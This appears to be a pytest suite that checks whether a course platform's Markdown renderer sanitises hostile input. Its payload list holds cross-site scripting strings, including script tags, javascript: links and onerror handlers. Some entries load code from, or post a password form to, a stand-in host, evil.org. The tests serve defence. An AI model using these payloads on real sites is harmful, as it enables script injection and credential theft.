"""Hostile and strange Markdown: nothing runs, nothing is loaded from elsewhere, nothing vanishes, nothing hangs."""

import json
import os
import re
from itertools import pairwise
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
import pytest

from lms.kit.markup.rendering import Rendered, render
from lms.kit.markup.tags import tags

SHARED = Path(os.environ.get("LMS_SHARED", Path(__file__).parents[4] / "shared"))
LESSONS = sorted((SHARED / "data/courses/ml-for-beginners").glob("**/README*.md"))
OTHERS = sorted((SHARED / "data/courses").glob("*/**/*.md*"))[::6]
BLNS = SHARED / "data/i18n/blns/blns.json"

TAGS = tags(
    "a abbr b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img"
    " input ins kbd li mark ol p pre q s samp section small span strong sub summary sup svg table tbody td tfoot th"
    " thead tr u ul use var wbr math mrow mi mn mo ms mtext mspace mfrac msqrt mroot mstyle mpadded mphantom menclose"
    " msub msup msubsup munder mover munderover mtable mtr mtd"
)
OURS = ("/files/", "/go/", "#")


def rendered(source: str) -> Rendered:
    return render(source, image=lambda n: "/files/1" if n == "x.png" else None, link=lambda t: None)


def tree(markup: str) -> Element:
    parser: Any = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False)
    root: Element = parser.parseFragment(markup)
    return root


def assert_harmless(markup: str) -> None:
    for element in tree(markup).iter():
        tag = str(element.tag).rpartition("}")[2]
        if tag == "DOCUMENT_FRAGMENT":
            continue
        assert tag in TAGS, tag
        for name, value in element.attrib.items():
            name = str(name).rpartition("}")[2].lower()
            assert not name.startswith("on"), name
            assert name not in ("style", "srcset", "formaction", "srcdoc", "action", "background", "ping"), name
            if name in ("href", "src"):
                assert value.startswith((*OURS, "http://", "https://", "mailto:")), value
        if tag == "img":
            assert element.attrib["src"].startswith("/files/")
            assert "alt" in element.attrib
        if tag == "svg":
            assert element.attrib == {"class": "icon", "aria-hidden": "true"}
        if tag == "use":
            assert re.fullmatch("#i-[a-z-]+", element.attrib["href"])
        if tag == "input":
            assert element.attrib["type"] == "checkbox"
            assert "disabled" in element.attrib


ATTACKS = [
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="asset:x.png" onerror="alert(1)" style="x">',
    "<img src='asset:x.png'onerror=alert(1)>",
    "<img/src=asset:x.png/onerror=alert(1)>",
    '<img src="https://evil.org/pixel.gif">',
    '<img srcset="https://evil.org/pixel.gif 1x" src="asset:x.png">',
    "![x](https://evil.org/p.gif)",
    "![x](//evil.org/p.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](asset:x.png "a\\" onload=\\"b")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java&#x0A;script:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="https://a.org" onclick="alert(1)" target=_blank>x</a>',
    '<a href="https://a.org"><a href="https://b.org">x</a></a>',
    "[![x](https://a.org/p.png)](https://b.org) [a <a href='https://c.org'>b</a>](https://d.org)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$$\text{</mtext></math><img src=x onerror=alert(1)>}$$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.org)}{x}$",
    r'$x" onmouseover="alert(1)$',
    r"$\text{<span data-icon=info></span>}$",
    "<span data-icon='info'></span><span data-task='done'>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="https://a.org/&quot; onload=&quot;x" srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='x'></object><embed src='x'><applet code=x>",
    "<form action=https://evil.org><input name=password><button formaction=javascript:x>go</button></form>",
    "<style>* { background: url(//evil.org) }</style>",
    "<div style='position:fixed;inset:0' class='dialog' id=main>x</div>",
    "<base href=//evil.org><meta http-equiv=refresh content='0;url=//evil.org'><link rel=stylesheet href=//evil.org>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<details ontoggle=alert(1) open><summary>x</summary>",
    "<video src=https://evil.org/x.mp4 autoplay><source onerror=alert(1)></video>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<p><b><i><table><tr><td><a href=//x>y</table></p></b><div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<x onclick=alert(1)>click</x>",
    "<a b='<img src=x onerror=alert(1)>' href=https://a.org>x</a>",
    "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    '## <img src=x onerror=alert(1)> [x](javascript:y)[["onclick=x]]',
    "| <img src=x onerror=alert(1)> |\n|-|\n| <td onclick=x> </table> |",
    "> [!NOTE]\n> </div></div><script>alert(1)</script>",
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <img src=x onerror=alert(1)>",
    "\x00\x01\x0b\x7f\x85\ufdd0\ufffe\ud800 &#0; &#1; &#xD800; <b title='&#1;'>",
    "<div>" * 300 + "x",
    "<b>" * 300 + "x",
    "<table>" * 100 + "x",
]


@pytest.mark.parametrize("source", ATTACKS)
@pytest.mark.parametrize(
    "frame", ["{}", "a {} b", "- {}", "> {}\n\nafter", "<div>\n{}\n</div>\n\nafter", "| a |\n|-|\n| {} |"]
)
def test_attacks_die(source: str, frame: str) -> None:
    assert_harmless(rendered(frame.format(source)).html)


def test_the_walk_would_find_them() -> None:
    for bad in (
        '<p onclick="x">',
        '<img src="https://evil.org/x" alt="">',
        '<a href="javascript:x">y</a>',
        "<script>1</script>",
    ):
        with pytest.raises(AssertionError):
            assert_harmless(f"<p></p>{bad}".replace('<p onclick="x">', '<p onclick="x"></p>'))


def test_an_address_handed_in_is_not_trusted_either() -> None:
    markup = render(
        "![x](asset:x) [y](asset:y)", image=lambda _: "javascript:alert(1)", link=lambda _: "javascript:alert(1)"
    ).html
    assert "javascript" not in markup


@pytest.mark.skipif(not BLNS.exists(), reason="the list of naughty strings is not here")
def test_naughty_strings_do_no_harm() -> None:
    strings = json.loads(BLNS.read_text(encoding="utf-8"))
    assert len(strings) > 300
    for text in strings:
        assert_harmless(rendered(text).html)
        assert_harmless(
            rendered(f"# {text}\n\n- **{text}**는 [{text}]({text}) ![{text}](asset:x.png)\n\n> {text}").html
        )


# --- what is no HTML stays visible ---


@pytest.mark.parametrize(
    "source",
    [
        "<eos>",
        "the <mask> token and <cls>",
        "Model.<fit>(x)",
        "<UNK>",
        '<Question choices={[ {text: "a", correct: true} ]} />',
        '<Youtube id="abc"/>',
        "<Tip>",
        "{#if fw === 'pt'}",
        "{{site.baseurl}}",
        "a < b > c",
        "<your-model-id>",
        "<",
        "</",
        "<script> is a tag",
        "<svg> too",
    ],
)
def test_what_is_no_html_stays_as_text(source: str) -> None:
    for text in (source, f"see {source} here"):
        assert "".join(tree(rendered(text).html).itertext()).strip() == text


def test_the_safe_part_of_html_stays() -> None:
    source = 'H<sub>2</sub>O x<sup>2</sup> <u>u</u> <kbd>Ctrl</kbd> a<br/>b <b class="x" id=y>bold'
    assert rendered(source).html == (
        "<p>H<sub>2</sub>O x<sup>2</sup> <u>u</u> <kbd>Ctrl</kbd> a<br>b <b>bold</b></p>\n"
    )
    details = rendered("<details>\n<summary>More</summary>\n\n**inside**\n\n</details>\n\nafter").html
    joined = "".join(details.split())
    assert joined == "<details><summary>More</summary><p><strong>inside</strong></p></details><p>after</p>"


def test_raw_tables_scroll_like_the_others() -> None:
    markup = rendered('<table border=1><tr><th>a</th><td colspan="2" style="x">b</td></tr></table>\n\nafter').html
    assert (
        'role="region" aria-label="Table 1"><table class="table table-stay">\n<tbody><tr><th>a</th><td colspan="2">b</td>'
        in markup
    )
    assert markup.endswith("</table></div>\n<p>after</p>\n")


def test_what_is_left_open_ends_with_its_block() -> None:
    assert rendered("<b>bold\n\nplain").html.endswith("<p>plain</p>\n")
    assert rendered("> <div>\n\nplain").html.endswith("</blockquote>\n<p>plain</p>\n")


def test_frames_become_links() -> None:
    markup = rendered('<iframe width="560" src="https://v.org/e/1" title="A talk" allowfullscreen></iframe>').html
    assert markup.strip() == '<a href="https://v.org/e/1" rel="noopener noreferrer">A talk</a>'
    assert "v.org" in rendered('see <iframe src="https://v.org/e/1"></iframe>').html
    assert "<a" not in rendered('<iframe src="http://v.org/e/1"></iframe>').html


# --- size and depth ---


def depth(element: Element) -> int:
    deepest, level = 0, [element]
    while level:
        deepest += 1
        level = [child for parent in level for child in parent]
    return deepest


@pytest.mark.parametrize(
    "source",
    [
        ">" * 50_000 + " x",
        "".join("  " * n + "- x\n" for n in range(300)),
        "[" * 20_000 + "x" + "](y)" * 20_000,
        "<div>\n\n" * 3_000,
        "<b>" * 20_000,
        "*a **b " * 10_000,
        "$" + "{" * 3_900 + "$",
        "$" + r"\sqrt{" * 60 + "x" + "}" * 60 + "$",
        "> [!TIP]\n> " * 2_000,
    ],
)
def test_nesting_has_an_end(source: str) -> None:
    markup = rendered(source).html
    assert depth(tree(markup)) < 150
    assert len(markup) < 4 * len(source) + 10_000


def test_endless_marks_become_text() -> None:
    markup = rendered("**a** " * 60_000).html
    assert markup.count("<strong>") == 0
    assert markup.count("a") >= 60_000


def test_only_so_many_formulas_are_converted() -> None:
    markup = rendered("\n\n".join(f"$a_{{{n}}}$" for n in range(2_100))).html
    assert markup.count("<math") == 2_000
    assert markup.count("<code>") == 100


def test_a_megabyte_is_shown_as_it_is() -> None:
    source = "<b>한 줄</b> [a](b)\n" * 60_000
    markup = rendered(source).html
    assert len(source) > 1_000_000
    assert re.findall("<[^>]*>", markup) == ["<pre>", "</pre>"]
    assert markup.count("&lt;b&gt;한 줄") == 60_000


# --- real lessons ---


@pytest.mark.parametrize(
    "path", LESSONS or [None], ids=lambda p: p and str(p.relative_to(SHARED / "data/courses"))[17:]
)
def test_real_lessons_are_valid_html(path: Path | None) -> None:
    if path is None:
        pytest.skip("the shared courses are not here")
    lesson = rendered(path.read_text(encoding="utf-8"))
    assert_harmless(lesson.html)
    levels = [1, *(heading.level for heading in lesson.outline)]
    assert all(after <= before + 1 for before, after in pairwise(levels))
    ids = [element.attrib["id"] for element in tree(lesson.html).iter() if "id" in element.attrib]
    assert len(ids) == len(set(ids))


@pytest.mark.skipif(not OTHERS, reason="the shared courses are not here")
def test_other_courses_are_valid_html() -> None:
    for path in OTHERS:
        lesson = rendered(path.read_text(encoding="utf-8"))
        assert_harmless(lesson.html)
        assert lesson.words > 0 or not path.read_text(encoding="utf-8").strip()
